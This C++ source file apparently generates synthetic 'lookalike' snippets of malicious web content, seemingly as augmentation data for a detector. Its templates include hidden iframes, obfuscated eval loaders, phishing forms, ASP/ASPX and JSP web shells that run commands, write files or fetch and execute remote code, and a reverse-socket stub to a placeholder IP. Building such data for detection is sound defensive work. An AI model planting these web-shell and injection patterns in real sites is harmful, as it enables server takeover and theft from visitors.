
#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/disguise.h"
#include "fovea/augment/snippets/lookalikes.h"

namespace fovea::augment {
namespace {

const Makers& PageMakers() {
  static const Makers makers = {
      {"hide",
       [](Junk& j) {
         return j.Pick({"width=\"1\" height=\"1\" style=\"display:none\"",
                        "style=\"visibility:hidden;"
                        "position:absolute;left:-~num~px\"",
                        "width=0 height=0 frameborder=0", "style='display:none'",
                        "width='1' height='1' border='0' style='visibility: hidden;'",
                        "style=\"position:fixed;top:-~num~px;opacity:0\""});
       }},
      {"tag",
       [](Junk& j) {
         return j.Pick({"<script>", "<script type=\"text/javascript\">",
                        "<script language=\"JavaScript\">", "<SCRIPT>",
                        "<script language=javascript>"});
       }},
      {"script", [](Junk& j) {
         return Disguise(ScriptLookalike(j), Language::kJavaScript, /*hide=*/true, j);
       }}};
  return makers;
}

constexpr const char* kPagePatterns[] = {
    "<iframe src=\"~url~\" ~hide~></iframe>",
    "<iframe src=~url~ ~hide~></iframe>",
    "<IFRAME SRC='~url~' ~hide~></IFRAME>",
    "<script src=\"~url.js~\"></script>",
    "<script src=~url.js~></script>",
    "<script type='text/javascript' src='//~host~/~letters~.js'></script>",
    "<script async src=\"~url.js~\"></script>",
    "~tag~~script~</script>",
    "~tag~~script~</script>",
    "~tag~document.write(unescape('~pct~'));</script>",
    "~tag~eval(String.fromCharCode(~codes~))</script>",
    "~tag~eval(unescape('~pct~'))</script>",
    "<meta http-equiv=\"refresh\" content=\"~small~;url=~url~\">",
    "<meta http-equiv='refresh' content='0; URL=~url~' />",
    "<div ~hide~><a href=\"~url~\">~word~ ~word~</a> <a href=\"~url~\">~word~ ~word~</a></div>",
    "<img src=x onerror=\"eval(atob('~b64~'))\">",
    "<body onload=\"window.location='~url~'\">",
    "<svg onload=eval(atob('~b64~'))>",
    "<object data=\"~url~\" type=\"text/html\" ~hide~></object>",
    "<embed src=\"~url.swf~\" ~hide~>",
    "<a href=\"javascript:eval(atob('~b64~'))\">~word~</a>",
    "<script language=\"VBScript\">Set ~0~=CreateObject(\"WScript.Shell\"):~0~.Run \"cmd /c "
    "~letters~\",0</script>",
    "<form action=\"~url.php~\" method=\"post\"><input name=\"~word~\"><input type=\"password\" "
    "name=\"~key~\">"
    "<input type=submit></form>",
    "<noscript><iframe src=\"~url~\" ~hide~></iframe></noscript>",
    "<script>var ~0~='~long~';document.write('<ifr'+'ame src=\"~url~\" "
    "~hide~></ifr'+'ame>');</script>",
    "<style>#~letters0~{display:none}</style><div id=~letters0~><a "
    "href=~url~>~sentence~</a></div>"};

const Makers& AspMakers() {
  static const Makers makers = {
      {"input",
       [](Junk& j) {
         return j.Pick({"Request(\"~key~\")", "Request.Form(\"~key~\")",
                        "Request.QueryString(\"~key~\")", "Request.Item[\"~key~\"]",
                        "Request.Cookies(\"~key~\")", "Request(~small~)"});
       }},
      {"chars", [](Junk& j) {
         std::string text;
         for (int64_t i = j.Int(5, 60); i > 0; --i)
           text += "Chr(" + std::to_string(j.Int(32, 122)) + (i > 1 ? ")&" : ")");
         return text;
       }}};
  return makers;
}

constexpr const char* kAspPatterns[] = {
    "On Error Resume Next\nExecute(~input~)",
    "For Each ~0~ In Request.Form\nExecuteGlobal Request.Form(~0~)\nNext",
    "~0~=\"Exec\"&\"ute(~input~)\"\nEval ~0~",
    "~0~=Replace(~input~,\"~letters~\",\"\")\nExecute ~0~",
    "~0~=Split(~input~,\",\")\nFor ~1~=0 To UBound(~0~)\n~2~=~2~&Chr(~0~(~1~) Xor "
    "~small~)\nNext\nExecute ~2~",
    "Execute(UnEscape(~input~))",
    "If ~input~=\"~letters~\" Then\nSet ~0~=CreateObject(\"WScript.Shell\")\n~0~.Run "
    "~input~,0,True\nEnd If",
    "Set ~0~=CreateObject(\"Shell.Application\")\n~0~.ShellExecute \"cmd.exe\",\"/c "
    "\"&~input~,\"\",\"open\",0",
    "Response.Write CreateObject(\"WScript.Shell\").Exec(~input~).StdOut.ReadAll",
    "Set ~0~=Server.CreateObject(\"Scripting.FileSystemObject\")\nSet "
    "~1~=~0~.OpenTextFile(~input~,2,True)\n~1~.Write ~input~\n~1~.Close",
    "Set "
    "~0~=Server.CreateObject(\"Scripting.FileSystemObject\")\n~0~.GetFile(Server.MapPath(\"~word~."
    "asp\")).Attributes=~small~\n~0~."
    "DeleteFile ~input~",
    "Set ~0~=Server.CreateObject(\"Microsoft.XMLHTTP\")\n~0~.Open "
    "\"GET\",\"~url.txt~\",0\n~0~.Send\nExecuteGlobal ~0~.responseText",
    "If InStr(LCase(Request.ServerVariables(\"HTTP_USER_AGENT\")),\"bot\")>0 Then\nSet "
    "~0~=Server.CreateObject(\"MSXML2.XMLHTTP\")\n~0~."
    "Open \"GET\",\"~url~\",False\n~0~.Send\nResponse.Write ~0~.responseText\nResponse.End\nEnd If",
    "Set ~0~=Server.CreateObject(\"ADODB.Connection\")\n~0~.Open ~input~\nSet "
    "~1~=~0~.Execute(~input~)",
    "var ~0~=new System.Diagnostics.ProcessStartInfo(\"cmd.exe\",\"/c "
    "\"+Request[\"~key~\"]);~0~.RedirectStandardOutput=true;~0~."
    "UseShellExecute=false;Response.Write(System.Diagnostics.Process.Start(~0~).StandardOutput."
    "ReadToEnd());",
    "Request.Files[0].SaveAs(Server.MapPath(\"~~/\")+Request.Files[0].FileName);",
    "System.IO.File.WriteAllText(Server.MapPath(Request[\"~key~\"]),Request[\"~key~\"]);",
    "System.IO.File.WriteAllBytes(Server.MapPath(\"~word~.aspx\"),new "
    "System.Net.WebClient().DownloadData(\"~url~\"));",
    "eval(Request[\"~key~\"],\"unsafe\");",
    "Eval ~input~",
    "Eval(~input~)",
    "Execute(~input~)",
    "Execute ~input~",
    "ExecuteGlobal ~input~",
    "ExecuteGlobal(~input~)",
    "If ~input0~<>\"\" Then Execute(~input0~)",
    "If ~input0~<>\"\" Then\nExecuteGlobal(~input0~)\nEnd If",
    "Execute(~chars~)",
    "Eval(~chars~)",
    "~0~=~input~\nExecute(~0~)",
    "Set ~0~=Server.CreateObject(\"WScript.Shell\")\nResponse.Write(~0~.Exec("
    "\"cmd /c \"&~input~).StdOut.ReadAll())",
    "Set ~0~=CreateObject(\"Scripting.FileSystemObject\")\nSet "
    "~1~=~0~.CreateTextFile(Server.MapPath(\"~word~.asp\"))"
    "\n~1~.Write ~input~\n~1~.Close",
    "Function ~9~(~1~)\nFor ~2~=1 To Len(~1~) Step "
    "2\n~9~=~9~&Chr(CLng(\"&H\"&Mid(~1~,~2~,2))-~small~)\nNext\n"
    "End Function\nExecute(~9~(\"~hex~\"))",
    "Set ~0~=Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n~0~.Open "
    "\"GET\",\"~url~\",False\n~0~.Send\n"
    "Execute(~0~.ResponseText)",
    "Execute(StrReverse(\"~letters~\"&~input~))",
    "Session(\"~key0~\")=~input~\nExecute Session(\"~key0~\")",
    "If InStr(Request.ServerVariables(\"HTTP_USER_AGENT\"),\"~word~\")>0 Then Response.Redirect "
    "\"~url~\"",
    "Response.Write \"<script src=~url.js~></script>\"",
    "Set ~0~=Server.CreateObject(\"ADODB.Stream\")\n~0~.Type=1\n~0~.Open\n~0~.Write "
    "Request.BinaryRead("
    "Request.TotalBytes)\n~0~.SaveToFile Server.MapPath(\"~word~.asp\"),2",
    "eval(Request.Item[\"~key~\"],\"unsafe\");",
    "eval(System.Text.Encoding.UTF8.GetString(System.Convert."
    "FromBase64String(\"~b64~\")),\"unsafe\");",
    "System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \"+~input~);",
    "System.Reflection.Assembly.Load(Convert.FromBase64String(\"~b64~\")).CreateInstance(\"~0~\")"
    ".Equals(this);"};

const Makers& JspMakers() {
  static const Makers makers = {{"input", [](Junk& j) {
                                   return j.Pick({"request.getParameter(\"~key~\")",
                                                  "request.getHeader(\"~key~\")",
                                                  "request.getParameterValues(\"~key~\")[0]"});
                                 }}};
  return makers;
}

constexpr const char* kJspPatterns[] = {
    "Runtime.getRuntime().exec(~input~);",
    "if(~input0~!=null){Runtime.getRuntime().exec(~input0~);}",
    "Process ~0~=Runtime.getRuntime().exec(~input~);java.io.InputStream "
    "~1~=~0~.getInputStream();int ~2~=-1;"
    "byte[] ~3~=new byte[~num~];while((~2~=~1~.read(~3~))!=-1){out.println(new "
    "String(~3~,0,~2~));}",
    "if(\"~letters~\".equals(~input~)){java.io.InputStream "
    "~0~=Runtime.getRuntime().exec(~input~).getInputStream();"
    "java.util.Scanner ~1~=new "
    "java.util.Scanner(~0~).useDelimiter(\"\\\\A\");out.print(~1~.next());}",
    "new "
    "java.io.FileOutputStream(application.getRealPath(\"/\")+~input~).write(~input~.getBytes());",
    "java.io.FileWriter ~0~=new "
    "java.io.FileWriter(application.getRealPath(~input~));~0~.write(~input~);~0~.close();",
    "ProcessBuilder ~0~=new "
    "ProcessBuilder(\"/bin/sh\",\"-c\",~input~);~0~.redirectErrorStream(true);"
    "java.io.InputStream ~1~=~0~.start().getInputStream();int "
    "~2~;while((~2~=~1~.read())!=-1)out.print((char)~2~);",
    "byte[] ~0~=java.util.Base64.getDecoder().decode(~input~);java.lang.reflect.Method "
    "~1~=ClassLoader.class."
    "getDeclaredMethod(\"defineClass\",byte[].class,int.class,int.class);~1~.setAccessible(true);"
    "((Class)~1~.invoke("
    "this.getClass().getClassLoader(),~0~,0,~0~.length)).newInstance();",
    "javax.script.ScriptEngine ~0~=new "
    "javax.script.ScriptEngineManager().getEngineByName(\"js\");~0~.eval(~input~);",
    "Class ~0~=Class.forName(new String(new "
    "sun.misc.BASE64Decoder().decodeBuffer(\"~b64s~\")));~0~.getMethod("
    "new "
    "String(java.util.Base64.getDecoder().decode(\"~b64s~\")),String.class).invoke(null,~input~)"
    ";",
    "javax.crypto.Cipher ~0~=javax.crypto.Cipher.getInstance(\"AES\");~0~.init(2,new "
    "javax.crypto.spec.SecretKeySpec("
    "\"~hexs~\".getBytes(),\"AES\"));new ~1~(this.getClass().getClassLoader()).g(~0~.doFinal(new "
    "sun.misc.BASE64Decoder()"
    ".decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);",
    "java.io.InputStream ~0~=new "
    "java.net.URL(\"~url~\").openStream();java.nio.file.Files.copy(~0~,java.nio.file."
    "Paths.get(\"~path.jsp~\"));",
    "java.net.Socket ~0~=new java.net.Socket(\"~ip~\",~port~);Process ~1~=new "
    "ProcessBuilder(\"/bin/sh\").start();"
    "java.io.OutputStream ~2~=~0~.getOutputStream();",
    "new javax.el.ELProcessor().eval(~input~);",
    "new java.io.ObjectInputStream(request.getInputStream()).readObject();",
    "out.print(new String(Runtime.getRuntime().exec(new "
    "String[]{\"sh\",\"-c\",~input~}).getInputStream().readAllBytes()));",
    "if(~input0~!=null){out.print(new java.util.Scanner(new "
    "ProcessBuilder(\"cmd\",\"/c\",~input0~).start().getInputStream())"
    ".useDelimiter(\"\\A\").next());}",
    "new java.net.URLClassLoader(new java.net.URL[]{new "
    "java.net.URL(~input~)}).loadClass(\"~word~\").newInstance();",
    "Object "
    "~0~=Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class."
    "forName(\"java.lang.Runtime\")."
    "getMethod(\"getRuntime\").invoke(null),~input~);",
    "out.println(\"<script src='~url.js~'></script>\");"};

}  // namespace

std::string PageLookalike(Junk& junk) { return FillAny(kPagePatterns, PageMakers(), junk); }
std::string AspLookalike(Junk& junk) { return FillAny(kAspPatterns, AspMakers(), junk); }
std::string JspLookalike(Junk& junk) { return FillAny(kJspPatterns, JspMakers(), junk); }

}  // namespace fovea::augment
